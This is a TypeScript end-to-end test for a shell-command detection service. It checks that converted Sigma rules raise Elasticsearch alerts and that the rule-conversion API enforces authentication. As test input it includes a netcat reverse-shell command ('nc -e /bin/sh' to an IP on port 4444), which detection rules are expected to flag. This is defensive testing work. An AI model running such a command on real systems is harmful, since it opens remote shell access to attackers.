import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SigmaConversionReport } from '../../src/core/sigma';
import { allDocuments } from '../support/elasticsearch';
import { createTopic, produce } from '../support/kafka';
import { runProcess, ServiceProcess } from '../support/service';
import { REPO_ROOT } from '../support/stack';
import { waitFor } from '../support/wait-for';
import { testWorld } from '../support/world';

/**
 * Bring your own detections: the hand-written Sigma folder converted by the built
 * CLI (`shellwatch sigma convert`), the output used as the service's RULES_DIR,
 * and a command produced to Kafka becoming an alert in Elasticsearch that carries
 * the Sigma rule's id and title, also through a sudo prefix.
 */
interface AlertSource {
  rule: { id: string; name: string };
  process: { command_line: string };
}

const API_KEY = 'e2e-sigma-key-8c2f71d0a9';
describe('Sigma rules in the service', () => {
  const world = testWorld('sigma');
  const work = mkdtempSync(join(tmpdir(), 'shellwatch-sigma-'));
  const rulesDir = join(work, 'rules');
  let service: ServiceProcess | undefined;
  let report: SigmaConversionReport;

  beforeAll(async () => {
    const convert = await runProcess(
      process.execPath,
      [
        resolve(REPO_ROOT, 'bin/shellwatch.js'),
        'sigma',
        'convert',
        'test/fixtures/sigma/rules',
        '--out',
        rulesDir,
        '--report',
        join(work, 'report.json'),
      ],
      { PATH: process.env.PATH ?? '' },
      300_000,
    );
    expect(convert.code, convert.output).toBe(0);
    report = JSON.parse(readFileSync(join(work, 'report.json'), 'utf8')) as SigmaConversionReport;
    await createTopic(world.topic, 1);
    service = new ServiceProcess(world.env({ RULES_DIR: rulesDir, API_KEY })).start();
    await service.waitReady();
  }, 600_000);

  afterAll(async () => {
    await service?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it('alerts with the Sigma id and title for a matching record', async () => {
    const startswith = report.converted.find((r) => r.path === 'cmdline-startswith.yml');
    expect(startswith?.sigmaId).toMatch(/^[0-9a-f-]{36}$/);
    const commands = ['sudo -u bob nc -e /bin/sh 203.0.113.9 4444', 'ls -la /srv'];
    await produce(
      world.topic,
      commands.map((command, i) => ({
        value: JSON.stringify({
          timestamp: new Date(Date.UTC(2026, 11, 7, 7, 0, i)).toISOString(),
          user: 'alice',
          host: 'web-1.example.internal',
          cwd: '/home/alice',
          command,
        }),
      })),
    );
    const alerts = await waitFor(
      'the Sigma alert',
      async () => (await allDocuments<AlertSource>(world.alertsIndex)).map((d) => d.source),
      (docs) => docs.some((d) => d.rule.id === startswith?.sigmaId),
      { timeoutMs: 120_000, intervalMs: 500 },
    );
    const alert = alerts.find((d) => d.rule.id === startswith?.sigmaId);
    expect(alert?.rule.name).toBe('Netcat run with -e');
    expect(alert?.process.command_line).toBe(commands[0]);
    expect(alerts.every((d) => d.process.command_line === commands[0])).toBe(true);
  });

  it('POST /rules/convert answers the converted rule of one Sigma file, without saving it', async () => {
    const text = readFileSync(
      resolve(REPO_ROOT, 'test/fixtures/sigma/rules/image-endswith.yml'),
      'utf8',
    );
    const response = await fetch(`${service?.baseUrl ?? ''}/rules/convert`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', authorization: `Bearer ${API_KEY}` },
      body: JSON.stringify({ sigma: text, path: 'image-endswith.yml' }),
    });
    expect(response.status).toBe(200);
    const body = (await response.json()) as { converted: { id: string; rule: { name: string } } };
    const expected = report.converted.find((r) => r.path === 'image-endswith.yml');
    expect(body.converted.id).toBe(expected?.id);
    expect(body.converted.rule.name).toBe('Netcat by image path');
    const bad = await fetch(`${service?.baseUrl ?? ''}/rules/convert`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', authorization: `Bearer ${API_KEY}` },
      body: JSON.stringify({ yaml: text }),
    });
    expect(bad.status).toBe(400);
    // It runs the regex analysis, as validate does: behind the key (issue 20).
    const anonymous = await fetch(`${service?.baseUrl ?? ''}/rules/convert`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ sigma: text }),
    });
    expect(anonymous.status).toBe(401);
  });
});
